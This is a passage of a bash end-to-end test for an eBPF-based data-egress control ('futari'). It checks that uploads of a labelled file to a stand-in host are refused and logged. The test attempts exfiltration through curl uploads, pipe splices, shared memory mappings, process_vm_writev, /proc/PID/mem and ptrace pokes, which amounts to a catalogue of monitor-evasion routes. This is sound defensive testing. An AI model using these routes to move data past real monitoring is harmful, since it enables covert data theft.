	fail "the approved browser's upload of the copy failed: $(cat "$E2E_SCRATCH/b64-approved.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
grep -qF "$(printf %s "$MARKER" | base64 | head -c 16)" "$recv" ||
	fail "the listener did not receive the approved copy: $(tail -n 2 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
note "browser-approved: the approved base64 copy went out with the approved browser"

# The window's end is the kernel's own: an approval ends in the BPF program at its window's
# end (the boot clock), not up to a minute later at the agent's tick. A second file with other
# content (so the first approval does not cover it) is approved for 120 s (the approver puts
# not_before 60 s back: about 60 s are left), sent through a redirection while the window is
# open, and the same redirection right after the end must be refused and logged.
f2=$U/tender-78-bid.txt
e2e_as hanako sh -c "printf '%s second bid 7654321 yen (TEST ONLY)\n' $MARKER >'$f2'"
setfattr -n trusted.futari.class -v II "$f2" || fail "cannot label $f2"
marked=$(status taint_marked)
for ((i = 0; i < 50; i++)); do
	[ "$(status taint_marked)" -gt "$marked" ] && break
	e2e_as hanako cat "$f2" >/dev/null || true
	sleep 0.1
done
[ "$(status taint_marked)" -gt "$marked" ] || fail "the agent never marked $f2"
out=$(e2e_as hanako "$FUTARI" upload-request "$f2" --to 192.0.2.1 --app "$CURL" \
	--reason "send the second bid" 2>&1) || fail "futari upload-request (short window) failed: $out"
fe_sign alice "$f2.futari-request" "$E2E_SCRATCH/up2.futari-approval" --valid-for 120s ||
	fail "alice could not sign the short upload approval: $(cat "$FE/sign.out")"
cp "$E2E_SCRATCH/up2.futari-approval" /home/hanako/tender-78.futari-approval
chown hanako: /home/hanako/tender-78.futari-approval
e2e_as hanako "$FUTARI" redeem --json /home/hanako/tender-78.futari-approval >"$E2E_SCRATCH/redeem2.json" 2>&1 ||
	fail "futari redeem of the short approval refused: $(cat "$E2E_SCRATCH/redeem2.json")"
na=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["not_after"])' "$E2E_SCRATCH/redeem2.json") ||
	fail "no not_after in the redeem reply: $(cat "$E2E_SCRATCH/redeem2.json")"
[ "$na" -gt "$(date +%s)" ] || fail "the short approval ended before it could be used (not_after $na, now $(date +%s))"
allowed short-approved hanako "$C -T '$f2' $URL"
allowed short-redirected hanako "$C -T - $URL <'$f2'"
approvals=$(status taint_approvals)
expired=$(status taint_expired)
while [ "$(date +%s)" -le "$na" ]; do sleep 0.2; done
# (through a pipe: a redirection would be refused at curl's start by fanotify since round 18,
# before the kernel's key is looked at)
denied short-ended "cat '$f2' | $C -T - $URL"
late=$(($(date +%s) - na - 1))
# The kernel found the key ended and deleted it itself, unless the agent's minute tick came
# first (then it withdrew the approval: taint_approvals went down).
[ "$(status taint_expired)" -gt "$expired" ] || [ "$(status taint_approvals)" -lt "$approvals" ] ||
	fail "the send after the window was refused, but neither the kernel nor the tick ended the approval"
note "short approval: refused ${late}s after its window ended (expired in the kernel: $(status taint_expired))"
note "taint: $("$FUTARI" status | grep '^enforcement')"

# A full ring buffer is a gap, never a silent loss: with the agent stopped (SIGSTOP) a tainted
# python3 makes 4000 refused connects, more than the ring buffer holds; after SIGCONT the log
# has the denials that fit plus a gap record counting the rest, adding up to all 4000. The
# python3 says by its exit status how many connects were not refused (0: none): this shell must
# not read what a tainted process wrote, or it is tainted too, and its own writes to the
# guest's 9p results share (a network filesystem to the taint) are refused and logged.
go=$E2E_SCRATCH/go
rm -f "$go"
before=$(denials)
e2e_as hanako timeout 120 python3 -c '
import os, socket, sys, time
sys.stdin.buffer.read()
while not os.path.exists(sys.argv[1]):
    time.sleep(0.05)
n = 0
for i in range(4000):
    try:
        socket.create_connection(("192.0.2.1", 8080), 2).close()
    except PermissionError:
        n += 1
sys.exit(0 if n == 4000 else 1 + min(4000 - n, 200))' "$go" <"$f" >"$E2E_SCRATCH/flood.out" 2>&1 &
fpid=$!
sleep 2 # it has read the file (the agent still answers fanotify until it stops)
kill -STOP "$AGENT_PID"
touch "$go"
rc=0
wait "$fpid" || rc=$?
kill -CONT "$AGENT_PID"
[ "$rc" -eq 0 ] || fail "not every connect was refused: the flood process exited $rc (1 + connects not refused, capped at 201; 124: timed out)"
lost=
for ((i = 0; i < 100; i++)); do
	lost=$(cat "$FE_LOG"/egress-*.jsonl | python3 -c '
import json, sys
n = 0
for line in sys.stdin:
    if not line.endswith("\n"):
        continue  # the record the agent is writing now: read again later
    r = json.loads(line)
    if r.get("event") == "gap" and r.get("detail", {}).get("kind") == "taint-denials-dropped":
        n += int(r["detail"]["count"])
print(n)')
	[ "$lost" -gt 0 ] && break
	sleep 0.2
done
[ "$lost" -gt 0 ] || fail "no gap record after the ring buffer overflowed"
sleep 1
got=$(($(denials) - before))
[ $((got + lost)) -eq 4000 ] || fail "records do not add up: $got upload.denied + $lost in gap records, 4000 refused"
note "ring buffer overflow: $got upload.denied records and a gap of $lost, 4000 refused"

# The note of a splice from a pipe into a socket lives in task storage (splice_from_pipe);
# where it cannot be created (out of memory) the splice must still be refused (fail closed),
# logged and counted, never judged by taint alone. The agent is started again with
# FUTARI_TEST_SPLICE_NO_NOTE=1, a test knob (read from root's environment) that makes
# fentry/do_splice act as if the task storage had no memory: the note goes to the fallback
# map (splice_unnoted), and futari status --json counts it.
fe_stop_agent
FUTARI_TEST_SPLICE_NO_NOTE=1 ft_start_agent 22
[ "$(status taint_splice_unnoted)" = 0 ] || fail "taint_splice_unnoted is not 0 after a start: $(status taint_splice_unnoted)"
denied splice-unnoted "printf splice-unnoted-DATA | python3 -c 'import os,socket; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); os.splice(0, s.fileno(), 65536)'"
[ "$(status taint_splice_unnoted)" -ge 1 ] || fail "the splice without a task storage note was not counted: $("$FUTARI" status --json)"
[ "$(status taint_splice_note_lost)" = 0 ] || fail "the fallback map lost a note: $(status taint_splice_note_lost)"
rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
echo "$rec" | grep -F 'splice from a pipe into a network socket' >/dev/null ||
	fail "the refused splice without a note is not logged as a splice: $rec"
# The same thread's ordinary socket writes are not refused once its splice returned (the
# fallback note is cleared by fexit/do_splice).
e2e_as hanako python3 -c '
import os, socket
s = socket.create_connection(("192.0.2.1", 8080), 10)
r, w = os.pipe()
os.write(w, b"x")
try:
    os.splice(r, s.fileno(), 1)
    raise SystemExit("the splice went out")
except PermissionError:
    pass
s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 20\r\n\r\nsplice-after-DATA\n")' >"$E2E_SCRATCH/splice-after.out" 2>&1 ||
	fail "a send after a refused unnoted splice failed: $(cat "$E2E_SCRATCH/splice-after.out")"
for ((i = 0; i < 50; i++)); do grep -q splice-after-DATA "$recv" && break; sleep 0.1; done
grep -q splice-after-DATA "$recv" || fail "the send after a refused unnoted splice did not arrive"
: >"$recv"
note "splice without a task storage note: refused, logged, counted ($(status taint_splice_unnoted))"

# fed_exempt, where the kernel notes the exempt programs it fed, is a hash that refuses a new
# entry when full, not an LRU that evicts one: an evicted program would be exempt again and
# send what it was fed. Full, it makes no program exempt (taint_exempt_fed_full). The agent
# is started again with FUTARI_TEST_FED_EXEMPT_MAX=1 (a test knob from root's environment: a
# map of one), and FUTARI_TEST_MAPPINGS_HELD=1 and FUTARI_TEST_FIND_VMA_BUSY=1 for the cases
# after this one. Reader A is fed by vmsplice and holds the data without sending (it waits on
# $shm/send-gate); reader B is fed next, and the map has no room. Both sends must be refused.
# With the LRU of round 13, B's entry evicted A's and A sent the data.
fe_stop_agent
FUTARI_TEST_FED_EXEMPT_MAX=1 FUTARI_TEST_MAPPINGS_HELD=1 FUTARI_TEST_FIND_VMA_BUSY=1 ft_start_agent 22
[ "$(status taint_exempt_fed_full)" = False ] ||
	fail "taint_exempt_fed_full is not false after a start: $(status taint_exempt_fed_full)"
ft_prime "$f"
rm -f "$shm/send-gate"
mkfifo -m 0666 "$shm/send-gate"
gated_reader fed-hold "(read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --vmsplice '$f')" "--read-send 192.0.2.1 8080 $shm/send-gate" bg
HOLD=$WPID
[ -n "$waited" ] || fail "fed-hold: the exempt reader never waited in a read of the pipe: $(cat "$E2E_SCRATCH/fed-hold.out")"
for ((i = 0; i < 100; i++)); do grep -q "$MARKER" "$shm/reader.out" && break; sleep 0.1; done
grep -q "$MARKER" "$shm/reader.out" ||
	fail "fed-hold: the feeder did not reach the reader (the case is not what it tests): $(cat "$E2E_SCRATCH/fed-hold.out")"
[ "$(status taint_exempt_fed_full)" = False ] || fail "fed-hold: one fed reader filled a map of one"
fed_wait fed-full "(read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --vmsplice '$f')"
timeout 10 sh -c 'echo go >"$1"' sh "$shm/send-gate" || true
rc=0
wait "$HOLD" || rc=$?
! grep -q "$MARKER" "$recv" || fail "fed-hold: the first fed reader sent what it was fed once a second filled the map"
[ "$rc" -eq 3 ] || fail "fed-hold: the first fed reader's send was not refused with EPERM (exit $rc): $(cat "$E2E_SCRATCH/fed-hold.out")"
[ "$(status taint_exempt_fed_full)" = True ] ||
	fail "fed-full: a second fed reader in a map of one did not make it full: $("$FUTARI" status --json)"
note "fed_exempt full: the reader fed first and the one that found no room both refused their sends"

# A file mapped shared and writable, and the mark taken where no LSM hook runs (round 14):
# python3 maps the file, then blocks in read(0) on an empty pipe; cat writes the Class II
# file into the pipe once python3 waits, so python3 is tainted at its read's return
# (fexit/pipe_read, a tracing program: no inode storage, no mapping lookup), stores what it
# read into the mapping and exits. The kernel notes the file as owed the mark (owed_files),
# and the file takes it at its next read. The agent here follows no notice
# (FUTARI_TEST_MAPPINGS_HELD, as its mappings thread held by a user's stuck mmap lock);
# before round 14 only the agent would have marked the file, and curl would have sent it.
rm -f "$shm/mapped2.bin" "$shm/mapped.ready"
e2e_as hanako bash -c "(while [ ! -e '$shm/mapped.ready' ]; do sleep 0.1; done; sleep 1; exec cat '$f') | python3 -c 'import mmap,os,sys
fd=os.open(sys.argv[1], os.O_RDWR|os.O_CREAT|os.O_TRUNC, 0o600); os.ftruncate(fd, 4096)
m=mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ|mmap.PROT_WRITE)
open(sys.argv[2], \"w\").close()
d=os.read(0, 4096)
m[:len(d)]=d; m.flush()' '$shm/mapped2.bin' '$shm/mapped.ready'" >"$E2E_SCRATCH/mapped2.out" 2>&1 ||
	fail "shared-mmap-pipe: the writer failed: $(cat "$E2E_SCRATCH/mapped2.out")"
[ "$(status taint_shared_owed)" -ge 1 ] ||
	fail "shared-mmap-pipe: no file was owed a mark: $("$FUTARI" status --json)"
denied shared-mmap-pipe "grep -q '$MARKER' '$shm/mapped2.bin' && $C -T '$shm/mapped2.bin' $URL"
[ "$(status taint_shared_owed_taken)" -ge 1 ] ||
	fail "shared-mmap-pipe: the owed mark was not taken: $("$FUTARI" status --json)"
note "shared-mmap-pipe: a file mapped by a process tainted in fexit/pipe_read, with the agent's mappings thread held: its upload refused, logged"

# The same with nine files mapped: the ninth finds every slot taken by a live mapping, so the
# kernel notes it with the process (overflow_files) and keeps the marks the process takes
# (mapper_marks); the file's readers take them. The read and the stores are made by a child
# forked after the mappings (it shares them, and overflow_files names its parent). Before,
# the ninth was left to the agent's thread (held here): python3 stored the content into it
# and curl sent it. The ninth mapping itself must not be refused (desktop programs map many
# files shared).
rm -f "$shm"/mapped-n*.bin "$shm/mapped.ready"
ov0=$(status taint_shared_overflow)
e2e_as hanako bash -c "(while [ ! -e '$shm/mapped.ready' ]; do sleep 0.1; done; sleep 1; exec cat '$f') | python3 -c 'import mmap,os,sys
ms=[]
for i in range(9):
    fd=os.open(\"%s/mapped-n%d.bin\" % (sys.argv[1], i), os.O_RDWR|os.O_CREAT|os.O_TRUNC, 0o600); os.ftruncate(fd, 4096)
    ms.append(mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ|mmap.PROT_WRITE))
pid=os.fork()
if pid == 0:
    open(sys.argv[2], \"w\").close()
    d=os.read(0, 4096)
    for m in ms:
        m[:len(d)]=d; m.flush()
    os._exit(0)
_, st=os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(st))' '$shm' '$shm/mapped.ready'" >"$E2E_SCRATCH/mapped-n.out" 2>&1 ||
	fail "shared-mmap-overflow: the writer failed (a ninth shared mapping refused?): $(cat "$E2E_SCRATCH/mapped-n.out")"
[ "$(status taint_shared_overflow)" -gt "$ov0" ] ||
	fail "shared-mmap-overflow: the ninth file was not noted as mapped beyond the slots: $("$FUTARI" status --json)"
denied shared-mmap-overflow "grep -q '$MARKER' '$shm/mapped-n8.bin' && $C -T '$shm/mapped-n8.bin' $URL"
note "shared-mmap-overflow: the ninth file mapped by a process tainted in fexit/pipe_read, with the agent's mappings thread held: its upload refused, logged"

# The first shared-mmap case again, with the kernel unable to look at the mapping when the
# process takes its mark (bpf_find_vma() answers -EBUSY while another thread of the process
# holds its address space's lock, which a process can arrange; FUTARI_TEST_FIND_VMA_BUSY makes
# every look busy). The file is owed the mark (owed_files) and takes it at its next read. Before
# this round such a file was left to the agent's mappings thread, held here.
rm -f "$shm/mapped3.bin"
owed0=$(status taint_shared_owed)
e2e_as hanako python3 -c 'import mmap,os,sys
fd=os.open(sys.argv[2], os.O_RDWR|os.O_CREAT|os.O_TRUNC, 0o600); os.ftruncate(fd, 4096)
m=mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ|mmap.PROT_WRITE)
d=open(sys.argv[1],"rb").read()
m[:len(d)]=d; m.flush()' "$f" "$shm/mapped3.bin" >"$E2E_SCRATCH/mapped3.out" 2>&1 ||
	fail "shared-mmap-busy: the writer failed: $(cat "$E2E_SCRATCH/mapped3.out")"
grep -q "$MARKER" "$shm/mapped3.bin" || fail "shared-mmap-busy: the mapped file does not hold the content"
[ "$(status taint_shared_owed)" -gt "$owed0" ] ||
	fail "shared-mmap-busy: the file whose mapping could not be looked at was not owed the mark: $("$FUTARI" status --json)"
denied shared-mmap-busy "$C -T '$shm/mapped3.bin' $URL"
note "shared-mmap-busy: a file mapped by a process tainted by a read while its mappings could not be looked at, the agent's mappings thread held: owed the mark, its upload refused, logged"

# Another process writes into the mapping (guest/taint-inject.py): a clean python3 maps a file
# shared and writable and only sleeps; a process that then read the Class II file writes it
# into that mapping, so it reaches the file with no write of the file's and the mapper makes
# no decision. With process_vm_writev the write is let through and the mapper takes the
# writer's mark at its check; its mapped files are owed it (before this round they were not
# marked at all, not even by the agent). Through a /proc/PID/mem descriptor opened while both
# were clean the write is refused: the LSM is not asked at that write, and the mapper's mark
# would reach its files only at its next decision.
install -m 0644 "$E2E_SRCDIR/guest/taint-inject.py" "$E2E_SCRATCH/taint-inject.py"
rm -f "$shm/mapped5.bin" "$shm/mapped6.bin"
rc=0
e2e_as hanako timeout 60 python3 "$E2E_SCRATCH/taint-inject.py" "$f" mapwrite "$shm/mapped5.bin" >/dev/null 2>&1 || rc=$?
[ "$rc" = 0 ] || fail "vm-writev-mapped: the write into the clean process's mapping did not go (exit $rc: 1 refused, 100 + errno)"
grep -q "$MARKER" "$shm/mapped5.bin" || fail "vm-writev-mapped: the mapped file does not hold what was written into the mapping"
denied vm-writev-mapped "$C -T '$shm/mapped5.bin' $URL"
before=$(denials)
rc=0
e2e_as hanako timeout 60 python3 "$E2E_SCRATCH/taint-inject.py" "$f" mapmem "$shm/mapped6.bin" >/dev/null 2>&1 || rc=$?
[ "$rc" = 1 ] || fail "mem-mapped: a tainted write through /proc/PID/mem into a process mapping a file shared was not refused with EPERM (exit $rc: 0 went, 100 + errno)"
! grep -q "$MARKER" "$shm/mapped6.bin" || fail "mem-mapped: the refused write reached the mapped file"
denied_since "$before" "mem-mapped: the refused write was not logged"
note "a tainted process's write into a clean process's shared file mapping: process_vm_writev lets the file owe the mark (its upload refused), /proc/PID/mem refused; logged"
# The same with ptrace: attached while both were clean, the tracer reads the file and pokes it
# into the stopped mapper's mapping (PTRACE_POKEDATA asks no hook), and stays attached while
# curl uploads the mapped file. At the attach the tracer joined the mapper's identity and the
# mapped file was noted under it (overflow_files); what the tracer takes from then on reaches
# the file's readers (mapper_marks).
rm -f "$shm/mapped7.bin" "$shm/poke-gate"
e2e_as hanako timeout 120 python3 "$E2E_SCRATCH/taint-inject.py" "$f" mappoke "$shm/mapped7.bin" "$shm/poke-gate" >/dev/null 2>&1 &
POKER=$!
for ((i = 0; i < 100; i++)); do grep -q "$MARKER" "$shm/mapped7.bin" && break; sleep 0.1; done
grep -q "$MARKER" "$shm/mapped7.bin" || fail "ptrace-mapped: the pokes did not reach the mapped file"
denied ptrace-mapped "$C -T '$shm/mapped7.bin' $URL"
touch "$shm/poke-gate"
rc=0
wait "$POKER" || rc=$?
[ "$rc" = 0 ] || fail "ptrace-mapped: a ptrace call failed (exit $rc: 100 + errno)"
note "ptrace-mapped: pokes of a tracer that read the file into a stopped clean process's shared file mapping: the file's upload refused while the tracer stays attached, logged"
